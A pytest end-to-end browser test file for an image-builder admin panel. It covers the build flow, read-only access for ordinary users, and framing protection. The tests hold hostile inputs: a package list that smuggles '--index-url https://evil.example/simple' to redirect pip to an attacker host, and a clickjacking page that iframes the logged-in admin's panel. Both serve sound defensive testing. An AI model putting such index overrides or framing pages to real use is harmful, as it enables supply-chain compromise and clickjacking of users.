"""An admin builds an image through the panel, in a real browser, following it live."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from ..browser import browser_page, fill_package_list_build, log_in, open_service
from ..service.svc import builder_hub
from ..util import ARTIFACTS

pytestmark = [pytest.mark.e2e, pytest.mark.browser]


@pytest.fixture(scope="module")
def builder(tmp_path_factory):
    # slow enough phases that the page shows them arriving one by one
    with builder_hub(tmp_path_factory.mktemp("builder-browser"), step_delay=0.7) as service:
        yield service


def test_admin_builds_an_image_from_the_services_menu(builder) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    with browser_page(str(ARTIFACTS / "FAILED-builder-panel.png")) as page:
        log_in(page, builder.hub.url, "admin", builder.hub.admin_password)
        page.wait_for_url(re.compile(r".*/hub/spawn.*"))
        open_service(page, builder.hub.url, "image-builder")
        hostile = "ovtiny==1.0\n--index-url https://evil.example/simple"
        fill_package_list_build(page, "BAD NAME", "Tiny", "A tiny environment", hostile)
        page.click("#submit-build")
        page.wait_for_selector("#f-name.is-invalid")  # the API's problems, next to the fields
        assert "must be lowercase" in page.inner_text("#f-name ~ .invalid-feedback")
        assert "pip options are not allowed" in page.inner_text("#f-packages ~ .invalid-feedback")
        page.screenshot(path=str(ARTIFACTS / "builder-form-errors.png"), full_page=True)
        assert builder.recorded() == []

        page.fill("#f-name", "tiny")
        page.fill("#f-packages", "ovtiny==1.0\n")
        page.click("#submit-build")
        page.wait_for_url(re.compile(r".*/services/image-builder/builds/[0-9a-f]{32}$"))
        page.wait_for_selector('#phase[data-phase="Building"]')
        page.wait_for_selector("#log >> text=step 3/3")
        assert page.locator('#transitions [data-phase="Success"]').count() == 0  # still live
        page.wait_for_selector('#phase[data-phase="Success"]', timeout=30_000)
        phases = page.locator("#transitions li").evaluate_all(
            "items => items.map(i => i.dataset.phase)"
        )
        assert phases == [
            "Preparing",
            "Resolving",
            "Building",
            "Importing",
            "Validating",
            "Success",
        ]
        assert page.inner_text("#log").splitlines()[-1] == "step 3/3"
        page.wait_for_selector("#retry:not([hidden])")
        page.screenshot(path=str(ARTIFACTS / "builder-build-success.png"), full_page=True)

        page.get_by_role("link", name="All builds").click()
        row = page.locator("#builds tbody tr").first
        row.locator('[data-phase="Success"]').wait_for()
        assert "tiny-notebook:" in row.inner_text() and "admin" in row.inner_text()
        page.screenshot(path=str(ARTIFACTS / "builder-list.png"), full_page=True)


def test_a_user_sees_builds_read_only(builder) -> None:
    with browser_page(str(ARTIFACTS / "FAILED-builder-readonly.png")) as page:
        log_in(page, builder.hub.url, "erin", "jupyterhub-ov")
        page.wait_for_url(re.compile(r".*/hub/spawn.*"))
        page.goto(f"{builder.url}/")
        page.wait_for_selector("#builds tbody tr")
        assert page.locator("#new-build-toggle").count() == 0
        page.locator("#builds tbody tr a", has_text="Details").first.click()
        page.wait_for_selector('#transitions [data-phase="Success"]')  # replayed by the stream
        assert "step 3/3" in page.inner_text("#log")
        assert page.locator("#cancel, #retry, #delete").count() == 0


def framing_page(src: str) -> str:
    return f'<!DOCTYPE html><title>evil</title><iframe id="f" src="{src}" width="900"></iframe>'


@contextmanager
def other_origin(html: str) -> Iterator[str]:
    """A page served on another port of 127.0.0.1: another origin, the same site (so the
    browser sends the admin's cookies with the framed request; nothing but the headers
    can stop it)."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = html.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/evil.html"
    finally:
        server.shutdown()
        server.server_close()


def test_no_page_can_frame_the_panel(builder) -> None:
    """Finding 4: a page on the hub's own origin (where a user's server serves its files) or
    on another origin frames the logged-in admin's panel; the browser refuses to show it."""
    html = framing_page(f"{builder.url}/")
    with (
        browser_page(str(ARTIFACTS / "FAILED-builder-framed.png")) as page,
        other_origin(html) as elsewhere,
    ):
        console: list[str] = []
        page.on("console", lambda message: console.append(message.text))
        failed: list[tuple[str, str | None]] = []
        page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
        log_in(page, builder.hub.url, "admin", builder.hub.admin_password)
        page.wait_for_url(re.compile(r".*/hub/spawn.*"))
        page.goto(f"{builder.url}/")
        # the panel's scripts work under its own policy: the list is loaded
        page.wait_for_selector("#builds tbody tr, #no-builds:not([hidden])")
        assert not [m for m in console if "Content Security Policy" in m], console

        # as a user's server would serve it: on the hub's origin (intercepted by the browser)
        same_origin = f"{builder.hub.url}/user/admin/files/evil.html"
        page.route(same_origin, lambda route: route.fulfill(content_type="text/html", body=html))
        for url in (same_origin, elsewhere):
            console.clear()
            failed.clear()
            page.goto(url)
            frame = next(f for f in page.frames if f != page.main_frame)
            frame.wait_for_load_state()
            assert frame.url.startswith("chrome-error://"), frame.url  # "refused to connect"
            assert frame.evaluate("() => document.getElementById('panel') === null"), url
            assert (f"{builder.url}/", "net::ERR_BLOCKED_BY_RESPONSE") in failed, (url, failed)
            refusals = [m for m in console if "frame-ancestors 'none'" in m]
            assert refusals and "The request has been blocked" in refusals[0], (url, console)
        page.screenshot(path=str(ARTIFACTS / "builder-framing-refused.png"), full_page=True)
